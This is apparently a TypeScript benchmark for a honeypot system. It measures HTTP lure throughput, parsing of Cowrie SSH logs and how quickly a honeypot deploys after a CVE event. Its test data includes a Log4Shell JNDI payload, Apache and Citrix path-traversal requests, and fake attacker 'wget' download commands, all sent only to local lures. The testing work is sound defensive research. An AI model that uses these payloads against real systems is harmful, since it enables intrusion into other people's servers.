import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Secret } from '@waggle/errors';
import {
  DEFAULT_CAPS, DEFAULT_LIMITS, createCatalogue, createDeployer, createMispClient, createReporter, loadProfiles, startHttpService, startProfile, tailCowrieLog,
  type EventSink, type LureProfile,
} from '@waggle/honeypot';
import { startServer } from '../core/environment.js';
import { parseArgs, parseCount } from '../lib/args.js';
import { describeMachine, machineInfo } from '../lib/machine.js';
import { median, percentile, round } from '../lib/stats.js';
import { formatTable, thousands } from '../lib/table.js';

const USAGE = `usage: npm run bench -- honeypot [--requests 20k] [--concurrency 32] [--lines 200k] [--deploys 10] [--skip-ssh] [--json <file>] [ssh options]
  --requests     HTTP requests sent to the lures (half exploits, half benign; default 20k)
  --concurrency  keep-alive HTTP clients at once (default 32)
  --lines        Cowrie JSON lines read back and aggregated by the reporter (default 200k)
  --deploys      CVE events published to measure event-to-listening latency (default 10)
  --skip-ssh     do not run the SSH area (bench/honeypot/ssh-bench.ts)
  --json         also write the figures as JSON to this file
  --concurrent, --rounds  passed to the SSH area`;

const log = (msg: string): void => {
  process.stderr.write(`[${new Date().toISOString().slice(11, 19)}] ${msg}\n`);
};

/** A sink that only counts, so the figures measure the lure and not the disk. */
function countingSink(): EventSink & { count: Map<string, number> } {
  const count = new Map<string, number>();
  return { count, write: (e) => count.set(e.eventid, (count.get(e.eventid) ?? 0) + 1), close: async () => undefined };
}

const EXPLOITS: Record<string, { path: string; headers?: Record<string, string> }[]> = {
  log4shell: [{ path: '/solr/admin/cores?action=x', headers: { 'user-agent': '${${::-j}${lower:n}di:ldap://198.51.100.7/a}' } }],
  'apache-traversal': [{ path: '/cgi-bin/.%%32%65/.%%32%65/.%%32%65/etc/passwd' }],
  'citrix-adc': [{ path: '/vpn/../vpns/portal/scripts/newbm.pl' }],
};
const BENIGN = { path: '/index.html', headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0', accept: 'text/html' } };

async function httpLures(requests: number, concurrency: number): Promise<{ profile: string; rps: number; exploits: number; expected: number }[]> {
  const catalogue = createCatalogue(loadProfiles());
  const out = [];
  for (const [name, exploits] of Object.entries(EXPLOITS)) {
    const sink = countingSink();
    let n = 0;
    const svc = await startHttpService({ host: '127.0.0.1', port: 0, profile: catalogue.get(name) as LureProfile }, { sink, sensor: 'bench', limits: { ...DEFAULT_LIMITS, ratePerIpPerMinute: 1e9, maxConnectionsPerIp: concurrency * 2 }, now: () => new Date(), sessionId: () => (n++).toString(16).padStart(12, '0') });
    const agent = new Agent({ keepAlive: true, maxSockets: concurrency });
    const one = (i: number): Promise<void> => new Promise((resolve, reject) => {
      const r = i % 2 === 0 ? (exploits[i % exploits.length] as { path: string; headers?: Record<string, string> }) : BENIGN;
      const req = request({ host: '127.0.0.1', port: svc.port, path: r.path, agent, headers: r.headers ?? {} }, (res) => {
        res.resume();
        res.on('end', resolve);
      });
      req.on('error', reject);
      req.end();
    });
    // Warm-up, so the figure is the steady state rather than JIT compilation.
    for (let i = 0; i < 200; i++) await one(i);
    const warm = sink.count.get('waggle.http.exploit') ?? 0;
    let next = 0;
    const t0 = performance.now();
    await Promise.all(Array.from({ length: concurrency }, async () => {
      while (next < requests) await one(next++);
    }));
    const seconds = (performance.now() - t0) / 1000;
    agent.destroy();
    await svc.close();
    out.push({ profile: name, rps: requests / seconds, exploits: (sink.count.get('waggle.http.exploit') ?? 0) - warm, expected: Math.ceil(requests / 2) });
  }
  return out;
}

async function logLines(lines: number): Promise<{ linesPerSecond: number; sessions: number; batches: number; batchesPerSecond: number }> {
  const dir = mkdtempSync(join(tmpdir(), 'hp-bench-log-'));
  try {
    const file = join(dir, 'cowrie.json');
    const rows: string[] = [];
    const perSession = 10;
    for (let i = 0; i < lines; i++) {
      const s = Math.floor(i / perSession);
      // 200 attackers with many sessions each, as a busy sensor sees them.
      const env = `"session":"${s.toString(16).padStart(12, '0')}","src_ip":"198.18.0.${String(s % 200)}","src_port":40000,"dst_ip":"192.0.2.1","dst_port":2222,"sensor":"bench","protocol":"ssh"`;
      const ts = new Date(Date.UTC(2026, 11, 2) + i * 10).toISOString();
      const k = i % perSession;
      const body = k === 0 ? '"eventid":"cowrie.session.connect"' : k < 5 ? `"eventid":"cowrie.login.failed","username":"root","password":"pw${String(k)}"` : k === perSession - 1 ? '"eventid":"cowrie.session.closed","duration":3.2' : `"eventid":"cowrie.command.input","input":"wget http://198.51.100.${String(k)}/x.sh"`;
      rows.push(`{${body},"timestamp":"${ts}",${env},"message":"m"}`);
    }
    writeFileSync(file, `${rows.join('\n')}\n`);
    const reporter = createReporter({ client: createMispClient({ url: 'http://127.0.0.1:9', key: new Secret('x') }), spoolDir: join(dir, 'spool'), now: () => new Date(Date.UTC(2026, 11, 3)), windowMs: 3_600_000 });
    const t0 = performance.now();
    const tail = tailCowrieLog(file, (r) => reporter.ingest(r), { intervalMs: 0 });
    let read = 0;
    for (let got = tail.poll(); got > 0; got = tail.poll()) read += got;
    const seconds = (performance.now() - t0) / 1000;
    tail.stop();
    // Spooling is timed apart: each batch is one fsync'ed file, a disk cost rather than a CPU one.
    const t1 = performance.now();
    const batches = reporter.cut(true);
    const spoolSeconds = (performance.now() - t1) / 1000;
    if (read !== lines) throw new Error(`read ${String(read)} of ${String(lines)} lines`);
    return { linesPerSecond: lines / seconds, sessions: Math.ceil(lines / perSession), batches, batchesPerSecond: batches / spoolSeconds };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** waggle on a SQLite file in `dir`, wired as `waggle serve` wires it (bench/core/environment.ts). */
async function startWaggle(dir: string): Promise<{ url: string; key: string; close: () => Promise<void> }> {
  const server = await startServer(join(dir, 'waggle.sqlite'));
  return { url: server.client.baseUrl, key: server.authKey, close: () => server.close() };
}

const accepts = (port: number): Promise<boolean> => new Promise((resolve) => {
  const s = connect({ host: '127.0.0.1', port }, () => {
    s.destroy();
    resolve(true);
  });
  s.on('error', () => resolve(false));
});

/** Time from `POST /events/add` of a CVE event until the planned honeypot accepts TCP connections. */
async function eventToListening(deploys: number): Promise<number[]> {
  const dir = mkdtempSync(join(tmpdir(), 'hp-bench-deploy-'));
  const waggle = await startWaggle(dir);
  const catalogue = createCatalogue(loadProfiles());
  const cves = ['CVE-2021-44228', 'CVE-2021-41773', 'CVE-2017-9841', 'CVE-2022-22965', 'CVE-2019-19781', 'CVE-2022-1388', 'CVE-2023-46805', 'CVE-2024-3400', 'CVE-2023-34362'];
  const sink = countingSink();
  const key = new Secret(waggle.key);
  const times: number[] = [];
  try {
    for (let i = 0; i < deploys; i++) {
      // A fresh deployer (and state file) per event, so every event deploys anew.
      const deployer = createDeployer({
        client: createMispClient({ url: waggle.url, key }), url: waggle.url, key, catalogue,
        caps: { ...DEFAULT_CAPS, maxInstances: 64, allowedPorts: [{ from: 41000, to: 41999 }] },
        approval: false, statePath: join(dir, `state-${String(i)}.json`), host: '127.0.0.1', now: () => new Date(),
        startService: (profile, listen) => startProfile(profile, listen, { sink, sensor: 'bench', limits: DEFAULT_LIMITS, now: () => new Date(), sessionId: () => '000000000000', hostKeyDir: join(dir, 'keys') }),
        tickMs: 50,
      });
      await deployer.start();
      try {
        for (let wait = 0; deployer.mode() !== 'stream' && wait < 250; wait++) await new Promise((r) => setTimeout(r, 20));
        const cve = cves[i % cves.length] as string;
        const t0 = performance.now();
        const res = await fetch(`${waggle.url}/events/add`, { method: 'POST', headers: { Authorization: waggle.key, Accept: 'application/json', 'Content-Type': 'application/json' }, body: JSON.stringify({ info: `bench ${String(i)}`, Attribute: [{ type: 'vulnerability', value: cve }] }) });
        await res.text();
        for (;;) {
          const inst = deployer.list().find((x) => x.status === 'running');
          const svc = inst === undefined ? undefined : deployer.running(inst.id);
          if (svc !== undefined && (await accepts(svc.port))) break;
          if (performance.now() - t0 > 10_000) throw new Error(`no honeypot for ${cve} within 10 s`);
          await new Promise((r) => setTimeout(r, 1));
        }
        times.push(performance.now() - t0);
      } finally {
        await deployer.stop();
      }
    }
  } finally {
    await waggle.close();
    rmSync(dir, { recursive: true, force: true });
  }
  return times;
}

/** Benchmark area `honeypot`: HTTP lure throughput, reporter log throughput, event-to-honeypot latency (and the SSH area). */
export async function runHoneypotBench(argv: readonly string[]): Promise<number> {
  const { positional, named } = parseArgs(argv, new Set(['help', 'skip-ssh']));
  if (named.has('help')) {
    process.stdout.write(`${USAGE}\n`);
    return 0;
  }
  const mine = ['requests', 'concurrency', 'lines', 'deploys', 'skip-ssh', 'json'];
  const sshKeys = ['concurrent', 'rounds'];
  const unknown = [...named.keys()].filter((k) => !mine.includes(k) && !sshKeys.includes(k));
  if (unknown.length > 0 || positional.length > 0) {
    process.stderr.write(`unexpected arguments: ${[...unknown.map((k) => `--${k}`), ...positional].join(' ')}\n${USAGE}\n`);
    return 2;
  }
  const value = (name: string, fallback: string): string => {
    const v = named.get(name);
    return typeof v === 'string' ? v : fallback;
  };
  const requests = parseCount(value('requests', '20k'), 'requests');
  const concurrency = parseCount(value('concurrency', '32'), 'concurrency');
  const lines = parseCount(value('lines', '200k'), 'lines');
  const deploys = parseCount(value('deploys', '10'), 'deploys');
  process.stderr.write(`${describeMachine(machineInfo(process.cwd()))}\n`);

  log(`HTTP lures: ${thousands(requests)} requests per profile, ${String(concurrency)} keep-alive clients`);
  const http = await httpLures(requests, concurrency);
  log(`reporter: reading and aggregating ${thousands(lines)} Cowrie lines`);
  const lineFigures = await logLines(lines);
  log(`deployer: ${String(deploys)} CVE events published on the stream`);
  const latency = await eventToListening(deploys);

  process.stdout.write(`\nHTTP lures (detectors on, half the requests exploits)\n${formatTable(['profile', 'requests/s', 'exploits logged', 'expected'], http.map((h) => [h.profile, thousands(h.rps), thousands(h.exploits), thousands(h.expected)]))}\n`);
  process.stdout.write(`\nReporter: ${thousands(lineFigures.linesPerSecond)} Cowrie lines/s read, parsed and aggregated into ${thousands(lineFigures.sessions)} sessions; ${thousands(lineFigures.batchesPerSecond)} batches/s written to the spool (${thousands(lineFigures.batches)} batches, fsync'ed)\n`);
  process.stdout.write(`\nCVE event published -> honeypot listening (target <= 1000 ms)\n${formatTable(['median ms', 'p95 ms', 'max ms'], [[String(round(median(latency))), String(round(percentile(latency, 95))), String(round(Math.max(...latency)))]])}\n`);
  const json = named.get('json');
  if (typeof json === 'string') writeFileSync(json, `${JSON.stringify({ http, lines: lineFigures, eventToListeningMs: latency }, null, 2)}\n`);

  let code = http.some((h) => h.exploits !== h.expected) ? 1 : 0;
  if (code !== 0) process.stderr.write('some exploit requests were not detected\n');
  if (!named.has('skip-ssh')) {
    const ssh = await import('./ssh-bench.js').catch(() => undefined);
    if (ssh !== undefined && typeof ssh.runSshBench === 'function') {
      log('SSH area (bench/honeypot/ssh-bench.ts)');
      const sshArgs = sshKeys.flatMap((k) => (typeof named.get(k) === 'string' ? [`--${k}`, named.get(k) as string] : []));
      code = Math.max(code, await ssh.runSshBench(sshArgs));
    }
  }
  return code;
}
